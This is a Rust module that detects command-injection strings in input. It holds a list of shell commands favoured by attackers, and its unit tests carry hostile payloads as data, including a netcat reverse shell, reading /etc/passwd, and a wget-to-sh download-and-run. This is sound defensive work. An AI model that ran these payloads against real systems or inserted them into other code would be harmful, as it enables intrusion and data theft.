//! Command injection: a value that would run a command if it reached a shell.
//!
//! Rules, read on the normalized form (lowercase, whitespace collapsed, see `decode::normalize`):
//! - `cmd-subst`: `$(` directly followed by a known command word; or a backtick followed by a
//!   command word with an argument, or by a bare command word when the backtick opens the value
//!   or follows a separator, `=` or a quote (elsewhere a backticked word is a markdown code span).
//! - `separator`: a shell separator (`;`, `|`, `||`, `&`, `&&`, newline) then a known command word
//!   that ends the value or is followed by something only a command line has: an option (`-x`), a
//!   path (`/`, `./`, `~`), a variable (`$`), a quote, a number (`sleep 5`, `ping 10.0.0.1`) or a
//!   redirection; or directly (no space) by another separator (`;id;`).
//! - `ifs`: `$IFS` / `${IFS}`, which exists only to replace spaces in injected commands.
//!
//! A command word alone is never enough (`cat`, `id`, `ping` are ordinary words), and a separator
//! alone is never enough (`;` and `&` are everywhere in text and URLs): that keeps free text such
//! as "dogs; cats and birds" or "Tom & Jerry" quiet.

/// Commands attackers run first: recon, download-and-run, shells, delays for blind probes.
const COMMANDS: &[&[u8]] = &[
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"dash",
    b"csh",
    b"cat",
    b"tac",
    b"more",
    b"less",
    b"head",
    b"tail",
    b"ls",
    b"dir",
    b"id",
    b"whoami",
    b"uname",
    b"hostname",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"ps",
    b"env",
    b"printenv",
    b"pwd",
    b"echo",
    b"printf",
    b"wget",
    b"curl",
    b"nc",
    b"ncat",
    b"netcat",
    b"telnet",
    b"ping",
    b"nslookup",
    b"dig",
    b"sleep",
    b"timeout",
    b"rm",
    b"touch",
    b"chmod",
    b"chown",
    b"mkfifo",
    b"python",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"node",
    b"busybox",
    b"cmd",
    b"cmd.exe",
    b"powershell",
    b"pwsh",
    b"certutil",
    b"net",
    b"systeminfo",
    b"tasklist",
    b"nohup",
    b"xargs",
    b"base64",
    b"find",
    b"awk",
    b"sed",
    b"eval",
    b"exec",
];

/// Scans the normalized form; returns the rule that matched.
pub(crate) fn scan(norm: &[u8]) -> Option<&'static str> {
    if contains(norm, b"${ifs}") || contains(norm, b"$ifs") {
        return Some("cmdi:ifs");
    }
    let mut i = 0;
    while i < norm.len() {
        let mut next = i + 1;
        match norm[i] {
            b'$' if norm.get(i + 1) == Some(&b'(') && command_at(norm, i + 2).is_some() => {
                return Some("cmdi:cmd-subst");
            }
            b'`' => {
                // `` `id` `` right after the start, a separator, `=` or a quote is shell; after a
                // space it is as likely a markdown code span (`` the `type` field ``), so there
                // the command must come with a command-line argument.
                let shell_context = i == 0
                    || matches!(
                        norm[i - 1],
                        b';' | b'|' | b'&' | b'=' | b'\'' | b'"' | b'\n'
                    );
                if let Some(end) = command_at(norm, i + 1) {
                    let rest = &norm[end..];
                    let bare = rest.is_empty() || rest[0] == b'`';
                    if (shell_context && bare)
                        || (rest.first() == Some(&b' ') && looks_like_command_line(rest))
                    {
                        return Some("cmdi:cmd-subst");
                    }
                }
            }
            b';' | b'|' | b'&' | b'\n' => {
                let start = skip_separators(norm, i);
                if let Some(end) = command_at(norm, start)
                    && looks_like_command_line(&norm[end..])
                {
                    return Some("cmdi:separator");
                }
                // Resume after the run: rescanning it from each of its bytes would be quadratic.
                next = start.max(next);
            }
            _ => {}
        }
        i = next;
    }
    None
}

/// Skips the separator run at `i` (`;`, `||`, `&&`, `|&`) and the spaces after it.
fn skip_separators(s: &[u8], mut i: usize) -> usize {
    while i < s.len() && matches!(s[i], b';' | b'|' | b'&' | b'\n' | b' ') {
        i += 1;
    }
    i
}

/// If a command word (optionally path-qualified: `/bin/sh`, `/usr/bin/id`) starts at `i`,
/// returns the index just past it.
fn command_at(s: &[u8], i: usize) -> Option<usize> {
    let rest = s.get(i..)?;
    let rest_start = rest.iter().position(|&b| b != b' ')?;
    let word_start = i + rest_start;
    let word_end = s[word_start..]
        .iter()
        .position(|&b| !is_word_byte(b))
        .map_or(s.len(), |p| word_start + p);
    let word = &s[word_start..word_end];
    // `/usr/bin/id` -> `id`; only for absolute paths, so `a/b` in text is not a command.
    let base = if word.first() == Some(&b'/') {
        word.rsplit(|&b| b == b'/').next().unwrap_or(word)
    } else {
        word
    };
    COMMANDS.contains(&base).then_some(word_end)
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'/' | b'_' | b'-')
}

/// What follows a command word on a real command line (see the module docs).
fn looks_like_command_line(after: &[u8]) -> bool {
    let after = match after {
        [] => return true,
        [b' ', rest @ ..] => rest,
        [b, ..] => return matches!(b, b';' | b'|' | b'&' | b'>' | b'<' | b'`' | b')'),
    };
    match after.first() {
        None => true,
        Some(b) => {
            // Not `|`, `&` or `;` after a space: `name | type | size` is a table, not a pipe.
            matches!(
                b,
                b'-' | b'/' | b'.' | b'~' | b'$' | b'\'' | b'"' | b'>' | b'<'
            ) || b.is_ascii_digit()
        }
    }
}

pub(crate) fn contains(hay: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && hay.windows(needle.len()).any(|w| w == needle)
}

#[cfg(test)]
mod tests {
    use crate::rule_tests::{Expect, check};

    #[test]
    fn attacks() {
        check(
            super::scan,
            Expect::Hit,
            &[
                "; cat /etc/passwd",
                "127.0.0.1; id",
                "127.0.0.1 && whoami",
                "x | nc 10.0.0.1 4444 -e /bin/sh",
                "$(id)",
                "`whoami`",
                "name=`id`",
                "a `cat /etc/passwd` b",
                "a;/bin/sh -i",
                "a;;;x; id",
                "foo||sleep 5",
                "a\nls -la",
                "cat${IFS}/etc/passwd",
                "& ping -n 10 127.0.0.1 &",
                "|powershell -enc AAAA",
                "; wget http://x/y.sh -O- | sh",
                "$(curl -s x.example)",
            ],
        );
    }

    #[test]
    fn benign() {
        check(
            super::scan,
            Expect::Quiet,
            &[
                "dogs; cats and birds",
                "Tom & Jerry",
                "rock & roll; echoes of the past",
                "a=1&b=2&id=3",
                "https://example.com/?q=1&sort=asc",
                "Cost: $5 (incl. tax)",
                "O'Brien",
                "name | type | size",
                "ls",
                "I like cat videos",
                "Use $(document) carefully",
                "see `README`",
                "the `type` field; only when `id` is set",
                "Run `ls` to list files",
            ],
        );
    }
}
